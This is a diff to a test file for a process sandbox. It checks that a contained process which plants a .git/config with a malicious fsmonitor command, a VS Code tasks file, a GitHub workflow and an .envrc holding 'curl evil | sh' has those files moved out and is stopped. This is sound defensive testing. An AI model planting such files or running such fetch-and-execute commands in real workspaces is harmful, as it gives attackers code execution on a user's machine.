@@ -183,53 +183,50 @@ describe('start returns when the process is ready (issue 16)', () => {
 describe.skipIf(!sandboxStatus().available)(
   'start: what a long-lived contained process may not plant (SPEC §4)',
   () => {
-    it('cannot make .git or .vscode while it runs; an .envrc it made is moved out at once, while it runs, and its output says so', async () => {
+    it('what it plants (.git with fsmonitor, .vscode, a workflow, .envrc) is moved out at once and it is stopped; ordinary work stays', async () => {
       const { supervisor, ws, dataDir, ctx } = setup();
       const planter = [
         "const fs = require('node:fs');",
-        'const tries = [];',
-        "for (const dir of ['.git', '.vscode', '.github']) { try { fs.mkdirSync(dir + '/x', { recursive: true }); tries.push(dir + ': made'); } catch (e) { tries.push(dir + ': ' + e.code); } }",
-        "try { fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n'); tries.push('config: written'); } catch (e) { tries.push('config: ' + e.code); }",
+        "fs.mkdirSync('.git/hooks', { recursive: true });",
+        "fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n');",
+        "fs.mkdirSync('.vscode'); fs.writeFileSync('.vscode/tasks.json', '{}');",
+        "fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/x.yml', 'on: push');",
         "fs.writeFileSync('.envrc', 'curl evil | sh\\n');",
         "fs.writeFileSync('ordinary.txt', 'fine\\n');",
-        "console.log(tries.join('; '));",
-        // It keeps running: the .envrc must be gone before it ends.
+        "console.log('planted');",
+        // It would keep running: the guard stops it.
         'setTimeout(() => process.exit(0), 60_000);',
       ].join('\n');
       fs.writeFileSync(path.join(ws, 'plant.cjs'), planter);
       const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
       const output = createOutputTool({ supervisor });
       await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx());
-      // While it runs, the placeholders stand (empty, read-only inside).
       const deadline = Date.now() + 20_000;
       let said = '';
       while (Date.now() < deadline) {
         said = text(await output.run({ name: 'planter' }, ctx()));
-        if (said.includes('[paddock]')) break;
+        if (said.startsWith('`planter` (stopped)')) break;
         await new Promise((resolve) => setTimeout(resolve, 100));
       }
-      // Each refused, whatever errno the runtime names (Node's recursive mkdir reports ENOENT for EROFS).
-      expect(said).toMatch(/\.git: E[A-Z]+; \.vscode: E[A-Z]+; \.github: E[A-Z]+; config: E[A-Z]+/);
-      expect(said).not.toContain('made');
-      expect(said).not.toContain('written');
-      expect(said).toContain('`.envrc` appeared');
-      expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
-      expect(supervisor.list().find((row) => row.name === 'planter')?.status).toBe('running');
-      await supervisor.stop(ctx().agent.id, 'planter');
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      // After it ended: no placeholder left behind, no repository, no .envrc; ordinary work kept.
-      for (const name of ['.git', '.vscode', '.github', '.envrc'])
+      expect(said).toMatch(/^`planter` \(stopped\)/);
+      expect(said).toContain('`planter` was stopped');
+      for (const name of ['.git', '.vscode', '.github/workflows', '.envrc'])
         expect(fs.existsSync(path.join(ws, name)), name).toBe(false);
       expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
-      expect(fs.readdirSync(path.join(dataDir, 'refused')).some((name) => name.endsWith('.envrc'))).toBe(true);
+      const refused = fs.readdirSync(path.join(dataDir, 'refused'));
+      for (const name of ['-.git', '-.vscode', '-.envrc'])
+        expect(
+          refused.some((kept) => kept.endsWith(name)),
+          name,
+        ).toBe(true);
     }, 30_000);
 
-    it('leaves the owner’s own .vscode alone, and a placeholder the owner wrote into stays', async () => {
+    it('leaves the owner’s own .vscode alone, and the owner’s editor writes into it while the process runs', async () => {
       const { supervisor, ws, dataDir, ctx } = setup();
+      fs.mkdirSync(path.join(ws, '.vscode'));
       fs.writeFileSync(path.join(ws, 'wait.cjs'), 'setTimeout(() => process.exit(0), 1500);\n');
       const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
       await start.run({ name: 'waiter', command: 'node wait.cjs' }, ctx());
-      expect(fs.readdirSync(path.join(ws, '.vscode'))).toEqual([]);
       // The owner's editor writes settings while the process runs (outside the sandbox).
       fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
       const deadline = Date.now() + 20_000;
@@ -240,6 +237,7 @@ describe.skipIf(!sandboxStatus().available)(
         await new Promise((resolve) => setTimeout(resolve, 100));
       await new Promise((resolve) => setTimeout(resolve, 300));
       expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
+      expect(supervisor.output('alice', 'waiter').status).toBe('exited');
       expect(fs.existsSync(path.join(ws, '.idea'))).toBe(false);
     }, 30_000);
   },
